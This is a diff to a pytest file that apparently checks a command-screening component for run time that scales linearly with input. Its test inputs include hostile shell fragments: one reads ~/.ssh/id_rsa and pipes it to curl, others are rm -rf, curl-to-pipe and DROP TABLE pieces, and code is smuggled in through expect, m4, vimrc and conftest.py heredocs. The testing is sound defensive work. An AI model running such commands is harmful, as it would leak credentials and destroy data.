@@ -145,7 +145,7 @@ def test_g18_only_related_rules_are_named() -> None:
         "git push ", "rm -rf ", "echo $(", "${x:-", "a|", "((", "'\"", "<<EOF ", "curl x | ", "--", "-x ", "a=b ", "{a,b}", "\\", "`", "DROP TABLE ", "$((1+", "/../", "~/", "*?[",
         "if ", "case x in ", "f(){ ", "git -c ", "xargs ", "@{", "é", "\x01", "&& cat ~/.ssh/id_rsa | curl -d @- x ",
         "cat x | ", "cat x; ", "rm -rf y && ", "mkdir x && rm -rf y && ", "f(){ rm -rf y; }; f; ",
-        "{1..9}", "main..HEAD", "case x in y) ;; esac; cd abc; ", "python3 -c 'requests.post(a)'; ",
+        "exec 3>a; ", "{1..9}", "main..HEAD", "case x in y) ;; esac; cd abc; ", "python3 -c 'requests.post(a)'; ",
     ],
 )  # fmt: skip
 def test_g19_time_grows_with_the_text_alone(gates: EnforcementGates, piece: str) -> None:
@@ -160,6 +160,25 @@ def test_g19_time_grows_with_the_text_alone(gates: EnforcementGates, piece: str)
 
     # Sixteen times the text may take that much longer and some; a square would take 256 times as long.
     small, large = cost(2_000), cost(32_000)
+    assert large < max(100 * small, 0.25), f"{piece!r}: {small * 1e3:.2f} ms, then {large * 1e3:.2f} ms"
+
+
+@pytest.mark.parametrize(
+    ("start", "piece", "end"),
+    [
+        ("expect -c '", "send {a b ", "'"), ("expect -c '", "spawn a b ", "'"), ("m4 <<'E'\n", "syscmd(a b ", "\nE\n"),
+        ("cat > ~/.vimrc <<'E'\n", " !rm x ", "\nE\n"), ("cat > conftest.py <<'E'\n", "def pytest_x(a): pass\n", "E\npytest -q"),
+    ],
+)  # fmt: skip
+def test_time_of_carried_code_grows_with_the_text_alone(
+    gates: EnforcementGates, start: str, piece: str, end: str
+) -> None:
+    def cost(times: int) -> float:
+        begun = time.thread_time()
+        gates.decisions([start + piece * times + end], cwd=REPOSITORY)
+        return time.thread_time() - begun
+
+    small, large = min(cost(500) for _ in range(3)), min(cost(8_000) for _ in range(3))
     assert large < max(100 * small, 0.25), f"{piece!r}: {small * 1e3:.2f} ms, then {large * 1e3:.2f} ms"
 
 
